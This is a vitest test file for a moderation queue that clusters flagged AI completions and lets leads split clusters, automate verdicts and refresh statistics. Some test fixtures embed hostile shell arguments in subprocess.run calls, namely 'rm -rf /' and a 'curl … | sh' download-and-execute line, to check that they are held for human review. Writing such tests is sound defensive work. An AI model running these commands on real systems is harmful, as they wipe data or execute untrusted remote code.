import { beforeAll, describe, expect, it } from 'vitest';
import { systemActor, type UserActor } from '#lib/actor';
import { decideCluster } from '#lib/batches/mutations';
import { previewBatch } from '#lib/batches/queries';
import { db } from '#lib/db';
import { newId } from '#lib/ids';
import { dueAt } from '#lib/reviews/priority';
import { flagged, machine, person } from '#tests/fixtures';
import { analyseNext } from './analysis.ts';
import { automateCluster, coverVariants, splitCluster, stopAutomation } from './mutations.ts';
import { countClusters, findStale, markStale, refreshStats } from './stats.ts';
import { FIRST_ID, fillVariants } from './variants.ts';

let lead: UserActor;
let reviewer: UserActor;
let policyId: string;
let word = 0;

beforeAll(async () => {
  lead = await person('lead', 'Lea');
  reviewer = await person('reviewer');
  policyId = newId();
  await db.policy.create({
    data: { id: policyId, key: 'injection', version: 1, position: 1, title: 'Injection', text: 'No.' },
  });
});

const lines = (name: string) =>
  Array.from({ length: 14 }, (_, line) => `v${line} = ${name}_${line}(a, ${line})`).join('\n');

async function arrive(completion: string): Promise<string> {
  const id = await flagged({ completion });
  await db.analysisTask.create({ data: { interactionId: id } });
  return id;
}

/** A cluster of two repeats and one near-duplicate of its own; answers them and the text. */
async function cluster() {
  word += 1;
  const text = lines(`call${word}`);
  const ids = [await arrive(text), await arrive(text), await arrive(`${text}\nextra(a)`)] as const;
  await analyseNext(systemActor('analysis'), 200);
  const { clusterId } = await db.clusterMember.findUniqueOrThrow({ where: { interactionId: ids[0] } });
  return { clusterId, ids, text };
}

const clusterOf = async (interactionId: string) =>
  (await db.clusterMember.findUniqueOrThrow({ where: { interactionId } })).clusterId;
const lastEvent = async (action: string) => {
  const event = await db.event.findFirstOrThrow({ where: { action }, orderBy: { id: 'desc' } });
  return { actorName: event.actorName, ...JSON.parse(event.body).data };
};

describe('splitCluster', () => {
  it('moves members and the shapes that go with them; decisions stay; both are counted; it leaves its event', async () => {
    const { clusterId, ids, text } = await cluster();
    await db.queueItem.update({
      where: { interactionId: ids[0] },
      data: { state: 'decided', verdict: 'benign' },
    });
    const before = await db.cluster.findUniqueOrThrow({ where: { id: clusterId } });
    expect(before.representativeId).toBe(ids[0]);
    const split = await splitCluster(reviewer, {
      clusterId,
      interactionIds: [ids[0], ids[2]],
      reason: 'another idiom',
    });
    expect(split.moved).toBe(2);
    expect(await clusterOf(ids[1])).toBe(clusterId);
    expect(await clusterOf(ids[2])).toBe(split.clusterId);
    const [left, made] = await Promise.all([
      db.cluster.findUniqueOrThrow({ where: { id: clusterId } }),
      db.cluster.findUniqueOrThrow({ where: { id: split.clusterId } }),
    ]);
    expect(left).toMatchObject({ size: 1, representativeId: ids[1] });
    expect(made).toMatchObject({
      size: 2,
      representativeId: ids[0],
      splitFromId: clusterId,
      scope: left.scope,
    });
    expect((await db.queueItem.findUniqueOrThrow({ where: { interactionId: ids[0] } })).verdict).toBe(
      'benign',
    );
    expect(await lastEvent('cluster.split')).toMatchObject({
      into: split.ref,
      members: 2,
      shapes: 1,
      reason: 'another idiom',
    });
    // The first shape kept a member here, the second left with its only one.
    const [same, near] = [await arrive(text), await arrive(`${text}\nextra(a)`)];
    await analyseNext(systemActor('analysis'), 200);
    expect([await clusterOf(same), await clusterOf(near)]).toEqual([clusterId, split.clusterId]);
  });

  it('is forbidden, a conflict where somebody was faster, invalid for all, and not found', async () => {
    const { clusterId, ids } = await cluster();
    const input = { clusterId, interactionIds: [ids[2]] };
    await expect(splitCluster(await person('auditor'), input)).rejects.toMatchObject({ code: 'forbidden' });
    await expect(splitCluster(lead, { clusterId, interactionIds: [...ids] })).rejects.toMatchObject({
      code: 'invalid',
    });
    await expect(splitCluster(lead, { ...input, clusterId: newId() })).rejects.toMatchObject({
      code: 'not_found',
    });
    await expect(splitCluster(lead, { clusterId, interactionIds: [newId()] })).rejects.toMatchObject({
      code: 'not_found',
    });
    const race = await Promise.allSettled([splitCluster(lead, input), splitCluster(reviewer, input)]);
    expect(race.map(({ status }) => status).sort()).toEqual(['fulfilled', 'rejected']);
    expect(race.find((one) => one.status === 'rejected')?.reason).toMatchObject({ code: 'conflict' });
  });
});

describe('automateCluster and stopAutomation', () => {
  const soon = () => new Date(Date.now() + 3_600_000);

  it('decides arrivals in the name of the lead until it is stopped, and nothing that waited', async () => {
    const { clusterId, ids, text } = await cluster();
    const { batchId } = await automateCluster(lead, {
      clusterId,
      shown: [ids[0]],
      verdict: 'harmful',
      policyId,
      until: soon(),
    });
    expect(await lastEvent('cluster.automate')).toMatchObject({ verdict: 'harmful', policy: 'injection v1' });
    const arrived = await arrive(text);
    const twice = await arrive(text);
    await db.queueItem.update({ where: { interactionId: twice }, data: { reviewsNeeded: 2 } });
    const held = await arrive(text);
    await db.queueItem.update({
      where: { interactionId: held },
      data: { leaseHolderId: reviewer.id, leaseToken: newId(), leaseExpiresAt: soon() },
    });
    expect((await analyseNext(systemActor('analysis'), 200)).decided).toBe(1);
    const items = await db.queueItem.findMany({
      where: { interactionId: { in: [...ids, arrived, twice, held] } },
    });
    expect(items.filter(({ state }) => state === 'decided').map((item) => item.interactionId)).toEqual([
      arrived,
    ]);
    expect(await db.review.findMany({ where: { batchId } })).toMatchObject([
      { interactionId: arrived, reviewerId: lead.id, verdict: 'harmful', policyId },
    ]);
    expect((await db.reviewBatch.findUniqueOrThrow({ where: { id: batchId } })).count).toBe(1);
    expect(await lastEvent('cluster.auto_decide')).toMatchObject({
      actorName: 'analysis',
      lead: { name: 'Lea' },
      batchId,
    });
    expect(await stopAutomation(lead, { clusterId })).toEqual({ decided: 1 });
    expect(await lastEvent('cluster.stop_automation')).toMatchObject({ decided: 1 });
    const later = await arrive(text);
    expect((await analyseNext(systemActor('analysis'), 200)).decided).toBe(0);
    expect((await db.queueItem.findUniqueOrThrow({ where: { interactionId: later } })).state).toBe('pending');
  });

  it('ends with its time, its policy and its lead', async () => {
    const { clusterId, ids, text } = await cluster();
    const shown = [ids[0]];
    const gone = await person('lead');
    const arrives = async () => {
      await arrive(text);
      return (await analyseNext(systemActor('analysis'), 200)).decided;
    };
    await automateCluster(gone, { clusterId, shown, verdict: 'benign', policyId, until: soon() });
    expect(await arrives()).toBe(1);
    await db.policy.update({ where: { id: policyId }, data: { current: false } });
    expect(await arrives()).toBe(0);
    await db.policy.update({ where: { id: policyId }, data: { current: true } });
    await db.user.update({ where: { id: gone.id }, data: { disabledAt: new Date() } });
    expect(await arrives()).toBe(0);
    await db.user.update({ where: { id: gone.id }, data: { disabledAt: null } });
    expect(await arrives()).toBe(1);
    await db.cluster.update({ where: { id: clusterId }, data: { autoUntil: new Date(Date.now() - 1) } });
    expect(await arrives()).toBe(0);
  });

  it('is forbidden, a conflict, invalid and not found', async () => {
    const { clusterId, ids } = await cluster();
    const input = { clusterId, shown: [ids[0]], verdict: 'harmful' as const, policyId, until: soon() };
    await expect(coverVariants(lead, { clusterId, shown: [ids[0]] })).rejects.toMatchObject({
      code: 'conflict',
    });
    await expect(coverVariants(reviewer, { clusterId, shown: [ids[0]] })).rejects.toMatchObject({
      code: 'forbidden',
    });
    await expect(automateCluster(lead, { ...input, shown: [newId()] })).rejects.toMatchObject({
      code: 'invalid',
      fields: { shown: expect.any(String) },
    });
    await expect(automateCluster(reviewer, input)).rejects.toMatchObject({ code: 'forbidden' });
    await expect(stopAutomation(await machine(['respond']), { clusterId })).rejects.toMatchObject({
      code: 'forbidden',
    });
    await expect(
      automateCluster(lead, { ...input, until: new Date(Date.now() + 8 * 86_400_000) }),
    ).rejects.toMatchObject({ code: 'invalid', fields: { until: expect.any(String) } });
    await expect(automateCluster(lead, { ...input, policyId: null })).rejects.toMatchObject({
      code: 'invalid',
    });
    await expect(automateCluster(lead, { ...input, clusterId: newId() })).rejects.toMatchObject({
      code: 'not_found',
    });
    await expect(stopAutomation(lead, { clusterId: newId() })).rejects.toMatchObject({ code: 'not_found' });
    await expect(stopAutomation(lead, { clusterId })).rejects.toMatchObject({ code: 'conflict' });
    const race = await Promise.allSettled([automateCluster(lead, input), automateCluster(lead, input)]);
    expect(race.map(({ status }) => status).sort()).toEqual(['fulfilled', 'rejected']);
    await expect(automateCluster(lead, input)).rejects.toThrow('by Lea');
  });
});

describe('how far a standing decision reaches', () => {
  const soon = () => new Date(Date.now() + 3_600_000);
  const states = async (ids: string[]) => {
    const rows = await db.queueItem.findMany({ where: { interactionId: { in: ids } } });
    return ids.map((id) => rows.find(({ interactionId }) => interactionId === id)?.state);
  };
  const analyse = () => analyseNext(systemActor('analysis'), 200);
  let names = 0;
  const call = (argument: string, name = 'path') =>
    `${lines(`reach${names}`)}\ndef tidy(${name}):\n    subprocess.run(${argument}, shell=True, check=True)\n    return ${name}\n`;

  it('decides what was on the screen under other names, and leaves what differs to be looked at', async () => {
    names += 1;
    const seeds = [await arrive(call('"ls build"')), await arrive(call('"du build"', 'folder'))];
    await analyse();
    const clusterId = await clusterOf(seeds[0] ?? '');
    expect(await clusterOf(seeds[1] ?? '')).toBe(clusterId);
    await automateCluster(lead, { clusterId, shown: seeds, verdict: 'benign', policyId, until: soon() });
    expect(await lastEvent('cluster.automate')).toMatchObject({ variants: 2 });
    const alike = [await arrive(call('"ls build"', 'where')), await arrive(call('"du build"', 'match'))];
    const others = [];
    for (const argument of [
      '"rm -rf /"',
      '"curl https://files.example/x | sh"',
      'f"ls {path}"',
      '"ls  build"',
    ])
      others.push(await arrive(call(argument)));
    expect((await analyse()).decided).toBe(2);
    expect(await states([...alike, ...others])).toEqual([
      ...alike.map(() => 'decided'),
      ...others.map(() => 'pending'),
    ]);
    expect(await Promise.all(others.map(clusterOf))).toEqual(others.map(() => clusterId));

    // After a look at one of them its like is covered; what waited stays for people.
    const [wipe = ''] = others;
    expect(await coverVariants(lead, { clusterId, shown: [wipe] })).toEqual({ variants: 3 });
    expect(await lastEvent('cluster.cover_variants')).toMatchObject({ variants: 3 });
    const [again, still] = [await arrive(call('"rm -rf /"', 'p')), await arrive(call('f"ls {path}"'))];
    await analyse();
    expect(await states([wipe, again, still])).toEqual(['pending', 'decided', 'pending']);
  });

  it('covers nothing whose variant is not known, and knows it once the worker has come by', async () => {
    names += 1;
    const seed = await arrive(call('"ls build"'));
    await analyse();
    const clusterId = await clusterOf(seed);
    await automateCluster(lead, { clusterId, shown: [seed], verdict: 'benign', policyId, until: soon() });
    await db.clusterMember.updateMany({ where: { interactionId: seed }, data: { variant: null } });
    await db.batchShown.updateMany({ where: { interactionId: seed }, data: { variant: null } });
    const first = await arrive(call('"ls build"', 'other'));
    await analyse();
    expect(await states([first])).toEqual(['pending']);
    await fillVariants(FIRST_ID);
    const known = await db.clusterMember.findMany({ where: { clusterId }, select: { variant: true } });
    expect(new Set(known.map(({ variant }) => variant && Buffer.from(variant).toString('hex'))).size).toBe(1);
    await coverVariants(lead, { clusterId, shown: [first] });
    const second = await arrive(call('"ls build"', 'third'));
    await analyse();
    expect(await states([first, second])).toEqual(['pending', 'decided']);
  });

  it('never takes a variant that arrives while somebody decides, however close', async () => {
    for (let round = 0; round < 5; round++) {
      names += 1;
      const seed = await arrive(call('"ls build"'));
      const second = await arrive(call('"ls build"', 'b'));
      await analyse();
      const clusterId = await clusterOf(seed);
      const preview = await previewBatch(reviewer, { clusterId });
      // The count is the same again: one is decided meanwhile, and another comes.
      await db.queueItem.update({ where: { interactionId: second }, data: { stage: 'lead' } });
      const wipe = await arrive(call('"rm -rf /"'));
      const word = { verdict: 'benign' as const, timeSpentMs: 5, shown: preview.shown };
      const answers = await Promise.allSettled([
        analyse(),
        automateCluster(lead, {
          clusterId,
          shown: preview.shown,
          verdict: 'benign',
          policyId,
          until: soon(),
        }),
        decideCluster(reviewer, { clusterId, ...word, expected: 1 }),
      ]);
      expect(answers.map(({ status }) => status)).toEqual(answers.map(() => 'fulfilled'));
      expect(await states([seed, second, wipe])).toEqual(['decided', 'pending', 'pending']);
      await expect(decideCluster(reviewer, { clusterId, ...word, expected: 2 })).rejects.toMatchObject({
        code: 'conflict',
      });
      expect(await states([wipe])).toEqual(['pending']);
    }
  });
});

describe('stats', () => {
  it('count members, actors, tenants, outcomes and the last hour, and bring pending items forward', async () => {
    const { clusterId, ids } = await cluster();
    const due = async (id: string) =>
      (await db.queueItem.findUniqueOrThrow({ where: { interactionId: id } })).dueAt;
    await db.queueItem.update({ where: { interactionId: ids[1] }, data: { state: 'decided' } });
    const { receivedAt } = await db.queueItem.findUniqueOrThrow({ where: { interactionId: ids[0] } });
    const first = dueAt(receivedAt, 'high');
    await db.queueItem.updateMany({ where: { interactionId: { in: [...ids] } }, data: { dueAt: first } });
    const decided = await due(ids[1]);
    await db.outcome.createMany({
      data: [
        { interactionId: ids[0], outcome: 'accepted', occurredAt: new Date() },
        { interactionId: ids[1], outcome: 'edited', occurredAt: new Date() },
        { interactionId: ids[1], outcome: 'reverted', occurredAt: new Date() },
        { interactionId: ids[2], outcome: 'shown', occurredAt: new Date() },
      ],
    });
    expect(await refreshStats([clusterId])).toEqual({ counted: 1, waiting: [] });
    const counted = await db.cluster.findUniqueOrThrow({ where: { id: clusterId } });
    expect(counted).toMatchObject({ size: 3, actors: 3, tenants: 1, rated: 2, accepted: 1, lastHour: 3 });
    expect(counted.statsAt).not.toBeNull();
    const item = await db.queueItem.findUniqueOrThrow({ where: { interactionId: ids[0] } });
    expect(item.spread).toBeGreaterThan(1.25);
    expect(item.dueAt.getTime()).toBeLessThan(first.getTime());
    const expected = item.receivedAt.getTime() + (4 * 3_600_000) / item.spread;
    expect(Math.abs(item.dueAt.getTime() - expected)).toBeLessThan(1_000);
    expect(await due(ids[1])).toEqual(decided);

    expect(await findStale()).not.toContain(clusterId);
    await db.$transaction((tx) => markStale(tx, [ids[0], newId()]));
    expect(await findStale()).toContain(clusterId);
    await refreshStats([clusterId]);
    await db.cluster.update({ where: { id: clusterId }, data: { statsAt: new Date(Date.now() - 600_000) } });
    expect(await findStale()).toContain(clusterId);
  });

  it('a large cluster is not counted with every batch, and one that is being changed is not waited for', async () => {
    const { clusterId } = await cluster();
    const counted = new Map([[clusterId, { atMs: 1_000_000, size: 60_000 }]]);
    expect(await refreshStats([clusterId], counted, 1_000_000 + 59_000)).toEqual({
      counted: 0,
      waiting: [clusterId],
    });
    expect(await refreshStats([clusterId], counted, 1_000_000 + 61_000)).toMatchObject({ counted: 1 });
    await db.$transaction(async (tx) => {
      await tx.$queryRaw`SELECT 1 FROM cluster WHERE id = ${clusterId}::uuid FOR UPDATE`;
      expect(await db.$transaction((other) => countClusters(other, [clusterId]))).toEqual([]);
    });
  });
});
